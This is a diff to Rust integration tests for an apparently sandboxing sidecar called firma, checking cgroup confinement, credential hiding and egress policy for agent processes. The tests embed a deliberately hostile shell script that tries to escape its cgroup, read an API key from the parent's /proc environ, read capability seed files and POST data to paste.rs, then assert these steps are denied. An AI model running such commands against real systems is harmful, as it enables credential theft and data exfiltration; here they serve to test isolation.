@@ -465,16 +465,32 @@ fn user_child_cannot_leave_its_cgroup_and_is_enforced() {
     let w = World::new();
     let cg2 = firma_sidecar::ebpf::Cgroup2::discover().unwrap();
     let root_procs = cg2.mount().join("cgroup.procs");
+    // Hostile: tries to leave the cgroup, then to read the secret from firma's environment
+    // (its parent) and the capability seed; then makes a call that must still be denied.
     let script = format!(
-        "id -u; cat /proc/self/cgroup; if echo $$ > {} 2>/dev/null; then echo MOVED; else echo REFUSED; fi; cat /proc/self/cgroup; {CURL} -d x=1 https://paste.rs/",
-        root_procs.display()
+        "id -u; cat /proc/self/cgroup; if echo $$ > {} 2>/dev/null; then echo MOVED; else echo REFUSED; fi; cat /proc/self/cgroup; \
+         if cat /proc/$PPID/environ 2>/dev/null | tr '\\0' '\\n' | grep -q {KEY_VAR}; then echo READ-ENV; fi; \
+         if cat {}/runs/*/capability.toml >/dev/null 2>&1; then echo READ-SEED; fi; \
+         {CURL} -d x=1 https://paste.rs/",
+        root_procs.display(),
+        w.state.display()
     );
-    let out = w.run(&["--user", "nobody"], &["sh", "-c", &script]);
+    let out = w.run(
+        &[
+            "--user",
+            "nobody",
+            "--credential",
+            &format!("api.openai.com={KEY_VAR}"),
+        ],
+        &["sh", "-c", &script],
+    );
     let stdout = text(&out.stdout);
     assert_eq!(out.status.code(), Some(0), "{}", show(&out));
     assert!(stdout.starts_with("65534\n"), "{}", show(&out));
     assert!(stdout.contains("REFUSED"), "{}", show(&out));
     assert!(!stdout.contains("MOVED"), "{}", show(&out));
+    assert!(!stdout.contains("READ-ENV"), "{}", show(&out));
+    assert!(!stdout.contains("READ-SEED"), "{}", show(&out));
     assert_eq!(
         stdout.matches("/firma-run-").count(),
         2,
@@ -488,13 +504,20 @@ fn user_child_cannot_leave_its_cgroup_and_is_enforced() {
         show(&out)
     );
     assert_eq!(w.up.count(), 0);
-    // As root, the warning says what a root child can bypass.
-    let out = w.run(&[], &["true"]);
+    // As root, the warning says what a root child can bypass; and the same script shows why
+    // (it can read firma's environment), which also proves the checks above can fail.
+    let out = w.run(
+        &["--credential", &format!("api.openai.com={KEY_VAR}")],
+        &["sh", "-c", &script],
+    );
     assert!(
         text(&out.stderr).contains("warning: CMD runs as root"),
         "{}",
         show(&out)
     );
+    assert!(text(&out.stdout).contains("READ-ENV"), "{}", show(&out));
+    assert!(text(&out.stdout).contains("READ-SEED"), "{}", show(&out));
+    assert!(text(&out.stdout).contains("MOVED"), "{}", show(&out));
 }
 
 #[test]
@@ -528,4 +551,48 @@ fn without_root_one_line_exit_78_nothing_created() {
         "{stderr}"
     );
     assert!(!state.exists(), "state dir created by a refused run");
+}
+
+#[test]
+fn run_with_an_init_config_uses_its_authority() {
+    if !in_fresh_netns("run_with_an_init_config_uses_its_authority") {
+        return;
+    }
+    let w = World::new();
+    let dir = w.path("deploy");
+    let out = firma_testing::firma(&["init", dir.to_str().unwrap()]);
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    let config = dir.join("firma.toml");
+    // The policy streams from this Authority; the run's capability is issued with its key.
+    let _authority = firma_testing::authority::Server::start(&config);
+    let script =
+        format!("{CURL} https://api.openai.com/v1/models && {CURL} -d x=1 https://paste.rs/");
+    let out = w.run(
+        &[
+            "--config",
+            config.to_str().unwrap(),
+            "--agent-id",
+            "agent-c",
+            "--credential",
+            &format!("api.openai.com={KEY_VAR}"),
+        ],
+        &["sh", "-c", &script],
+    );
+    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
+    let stdout = text(&out.stdout);
+    assert!(stdout.contains("STATUS 200"), "{}", show(&out));
+    assert!(stdout.contains("STATUS 403"), "{}", show(&out));
+    assert_eq!(
+        w.up.seen()[0].headers["authorization"],
+        format!("Bearer {CANARY}")
+    );
+    // The config's own audit file holds this run's decisions, for agent-c.
+    let events = w.audit(&dir.join("audit.jsonl"));
+    assert_eq!(events.len(), 2, "{}", show(&out));
+    assert_eq!(events[0]["capability"]["agent_id"], "agent-c");
+    assert!(
+        text(&out.stderr).contains("ALLOW GET api.openai.com/v1/models"),
+        "{}",
+        show(&out)
+    );
 }
